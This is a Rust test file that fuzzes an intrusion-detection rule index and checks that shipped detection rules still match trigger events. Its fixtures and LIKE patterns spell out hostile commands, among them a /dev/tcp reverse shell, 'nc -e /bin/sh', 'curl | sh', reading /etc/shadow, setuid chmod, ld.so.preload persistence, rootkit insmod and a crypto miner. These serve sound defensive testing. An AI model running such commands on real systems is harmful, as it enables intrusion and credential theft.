//! The rule index never skips a rule that matches: on random events and
//! thousands of random streaming queries built from the shapes it reads
//! (equalities, IN lists, `lower()`, LIKE with and without ESCAPE, GLOB,
//! OR/AND/NOT, joins to `processes`, aggregates and LIMIT), and on the
//! shipped rules over events that trigger them and benign ones.

use super::super::*;
use super::engine::row;
use super::grammar::Rng;

const NAMES: &[&str] = &[
    "sh",
    "SH",
    "bash",
    "nc",
    "Nc",
    "python3",
    "python3.11",
    "ld.so",
    ".hidden",
    "crontab",
    "chmod",
    "pkexec",
    "ß-tool",
    "id",
    "x_y",
    "a%b",
    "",
];
const LINES: &[&str] = &[
    "sh -c 'cat /etc/shadow'",
    "cat /ETC/SHADOW",
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "curl http://x | sh",
    "echo aGk= | base64 -d | sh",
    "chmod u+s /bin/bash",
    "crontab -l",
    "history -c",
    "a_history b",
    "ls -la /tmp",
    "/usr/bin/python3 -c 'import socket'",
    "plain words",
    "ünïcode /etc/shadow ß",
];
const PATHS: &[&str] =
    &["/tmp/x", "/TMP/x", "/usr/bin/sh", "/memfd:evil (deleted)", "/proc/1/fd/3", "/dev/shm/a", "/bin/ld.so"];

fn text(s: &str) -> Value {
    Value::Text(s.to_owned())
}

/// An exec event row with columns from the pools, sometimes NULL or a
/// number (which SQLite converts to text for LIKE and GLOB).
fn random_event(rng: &mut Rng) -> Vec<Value> {
    let pick = |rng: &mut Rng, pool: &[&str]| match rng.below(12) {
        0 => Value::Null,
        1 => Value::Integer(100),
        _ => text(rng.pick::<&str>(pool)),
    };
    let name = pick(rng, NAMES);
    let line = pick(rng, LINES);
    let path = pick(rng, PATHS);
    let event_type = text(rng.pick::<&str>(&["exec", "exec", "fork", "exit"]));
    row(
        Table::ProcessEvents,
        &[
            ("seq", Value::Integer(1)),
            ("event_type", event_type),
            ("pid", Value::Integer(7)),
            ("ppid", Value::Integer(1)),
            ("uid", Value::Integer(rng.below(2) as i64)),
            ("name", name),
            ("command_line", line),
            ("executable_path", path),
        ],
    )
}

fn quoted(s: &str) -> String {
    format!("'{}'", s.replace('\'', "''"))
}

/// A condition on the event `e` in the shapes the index reads, and others.
fn cond(rng: &mut Rng, depth: usize) -> String {
    let name_lit = |rng: &mut Rng| quoted(rng.pick::<&str>(NAMES));
    let leaf = |rng: &mut Rng| -> String {
        match rng.below(14) {
            0 => format!("e.name = {}", name_lit(rng)),
            1 => format!("{} = e.name", name_lit(rng)),
            2 => format!("e.name IN ({}, {}, {})", name_lit(rng), name_lit(rng), name_lit(rng)),
            3 => format!("lower(e.name) IN ({}, {})", name_lit(rng), name_lit(rng)),
            4 => format!("lower(e.name) = {}", name_lit(rng)),
            5 => format!(
                "e.command_line LIKE {}",
                quoted(rng.pick::<&str>(&[
                    "%/etc/shadow%",
                    "%/dev/tcp/%",
                    "%| sh",
                    "%base64%",
                    "%/ETC/shadow%",
                    "sh -c%",
                    "%_%",
                    "%"
                ]))
            ),
            6 => format!(
                "e.command_line LIKE {} ESCAPE '\\'",
                quoted(rng.pick::<&str>(&["%\\_history%", "%a\\%b%", "%x\\"]))
            ),
            7 => format!(
                "e.executable_path GLOB {}",
                quoted(rng.pick::<&str>(&["/tmp/*", "/proc/*/fd/*", "*ld.so", "/[dt]*", "*"]))
            ),
            8 => format!("e.name GLOB {}", quoted(rng.pick::<&str>(&["py*", ".*", "*sh", "[bs]h", "Nc"]))),
            9 => format!("e.executable_path LIKE {}", quoted(rng.pick::<&str>(&["/tmp/%", "/memfd:%", "%/ld%.so%"]))),
            10 => format!("e.uid = {}", rng.below(2)),
            11 => "e.command_line REGEXP '\\s-c\\s'".to_owned(),
            12 => format!("e.event_type = {}", quoted(rng.pick::<&str>(&["exec", "exit"]))),
            _ => format!("e.name = {}", rng.pick::<&str>(&["100", "'100'", "NULL"])),
        }
    };
    if depth == 0 || rng.chance(35) {
        return leaf(rng);
    }
    match rng.below(5) {
        0 | 1 => format!("({} OR {})", cond(rng, depth - 1), cond(rng, depth - 1)),
        2 | 3 => format!("({} AND {})", cond(rng, depth - 1), cond(rng, depth - 1)),
        _ => format!("NOT ({})", cond(rng, depth - 1)),
    }
}

fn streaming_query(rng: &mut Rng) -> String {
    let w = (0..1 + rng.below(3)).map(|_| cond(rng, 2)).collect::<Vec<_>>().join(" AND ");
    match rng.below(8) {
        0 => format!(
            "SELECT e.pid, p.name FROM process_events e JOIN processes p ON p.pid = e.ppid WHERE {w} AND p.uid = 0"
        ),
        1 => format!("SELECT count(*) FROM process_events e WHERE {w}"),
        2 => format!("SELECT e.pid FROM process_events e WHERE {w} LIMIT 1"),
        _ => format!("SELECT e.pid, e.name FROM process_events e WHERE {w}"),
    }
}

/// Checks every (event, query) pair: a query the index leaves out returns
/// no row. Returns (pairs left out, pairs matched).
fn check(queries: &[Query], events: &[Vec<Value>], tables: &MemTables) -> (usize, usize) {
    let index = RuleIndex::new(queries.iter().map(Some));
    let params = Params { now_ms: Some(1_700_000_000_000), ..Params::default() };
    let (mut skipped, mut matched) = (0, 0);
    let mut marks = Vec::new();
    for ev in events {
        index.candidates(ev, &mut marks);
        assert_eq!(marks.len(), queries.len());
        for (q, candidate) in queries.iter().zip(&marks) {
            let rows = q.evaluate_event(ev, tables, &params, &Limits::default()).map(|rs| rs.rows.len()).unwrap_or(0);
            if rows > 0 {
                matched += 1;
                assert!(*candidate, "left out a matching query:\n  {}\n  event {ev:?}", q.sql());
            }
            if !candidate {
                skipped += 1;
            }
        }
    }
    (skipped, matched)
}

#[test]
fn the_index_never_leaves_out_a_matching_query() {
    let mut rng = Rng(0x9F1_7E12);
    let mut tables = MemTables::new();
    tables.insert(Table::Processes, row(Table::Processes, &[("pid", Value::Integer(1)), ("uid", Value::Integer(0))]));
    let (mut skipped, mut matched, mut pairs) = (0, 0, 0);
    for _ in 0..40 {
        let queries: Vec<Query> = (0..60)
            .map(|_| {
                let sql = streaming_query(&mut rng);
                Query::compile(&sql).unwrap_or_else(|e| panic!("{sql}: {e}"))
            })
            .collect();
        let events: Vec<Vec<Value>> = (0..60).map(|_| random_event(&mut rng)).collect();
        let (s, m) = check(&queries, &events, &tables);
        skipped += s;
        matched += m;
        pairs += queries.len() * events.len();
    }
    // Teeth: queries do match, and the index leaves most pairs out.
    assert!(matched >= 2_000, "only {matched} matches");
    assert!(skipped * 100 >= pairs * 35, "left out only {skipped} of {pairs}");
}

/// The shipped rules: events that trigger them are never left out, and a
/// benign exec leaves most rules out.
#[test]
fn the_shipped_rules_are_indexed_without_losing_a_match() {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules");
    let set = load_rules_dir(&dir);
    assert!(set.errors.is_empty(), "{:?}", set.errors);
    let queries: Vec<Query> = set.rules.iter().map(|lr| lr.query.clone()).collect();
    let streaming: Vec<Option<&Query>> = queries.iter().map(|q| q.is_streaming().then_some(q)).collect();
    let index = RuleIndex::new(streaming.iter().copied());
    let mut tables = MemTables::new();
    tables.insert(Table::Processes, row(Table::Processes, &[("pid", Value::Integer(1)), ("name", text("nginx"))]));
    let exec = |name: &str, line: &str, path: &str| {
        row(
            Table::ProcessEvents,
            &[
                ("seq", Value::Integer(1)),
                ("event_type", text("exec")),
                ("pid", Value::Integer(9)),
                ("ppid", Value::Integer(1)),
                ("uid", Value::Integer(1000)),
                ("euid", Value::Integer(0)),
                ("name", text(name)),
                ("command_line", text(line)),
                ("executable_path", text(path)),
            ],
        )
    };
    let mut events = vec![
        exec("cat", "cat /etc/shadow", "/usr/bin/cat"),
        exec("bash", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "/usr/bin/bash"),
        exec("sh", "sh -c curl http://x/a.sh | sh", "/usr/bin/sh"),
        exec("chmod", "chmod u+s /tmp/x", "/usr/bin/chmod"),
        exec("x", "./x", "/tmp/x"),
        exec("john", "john hashes", "/usr/sbin/john"),
        exec("JOHN", "JOHN hashes", "/usr/sbin/JOHN"),
        exec("pkexec", "pkexec /bin/sh", "/usr/bin/pkexec"),
        exec(".hidden", "./.hidden", "/home/u/.hidden"),
        exec("xmrig", "xmrig -o stratum+tcp://pool:3333", "/opt/xmrig"),
        exec("kworker/0:1", "kworker/0:1", "/tmp/kworker"),
        exec("nc", "nc -e /bin/sh 1.2.3.4 80", "/usr/bin/nc"),
        exec("crontab", "crontab /tmp/c", "/usr/bin/crontab"),
        exec("bash", "bash -c 'history -c'", "/usr/bin/bash"),
        exec("insmod", "insmod rootkit.ko", "/usr/sbin/insmod"),
        exec("sh", "sh -c 'echo x >> /etc/ld.so.preload'", "/usr/bin/sh"),
    ];
    let benign = exec("dembench", "/var/lib/bench/dembench r1 42", "/var/lib/bench/dembench");
    events.push(benign.clone());
    let (_, matched) = check(&queries, &events, &tables);
    assert!(matched >= 12, "the trigger events matched only {matched} rules");
    let mut marks = Vec::new();
    index.candidates(&benign, &mut marks);
    let candidates = marks.iter().filter(|m| **m).count();
    let streaming_rules = streaming.iter().flatten().count();
    assert!(
        candidates * 5 <= streaming_rules,
        "a benign exec is a candidate for {candidates} of {streaming_rules} streaming rules ({} always)",
        index.unfiltered()
    );
}
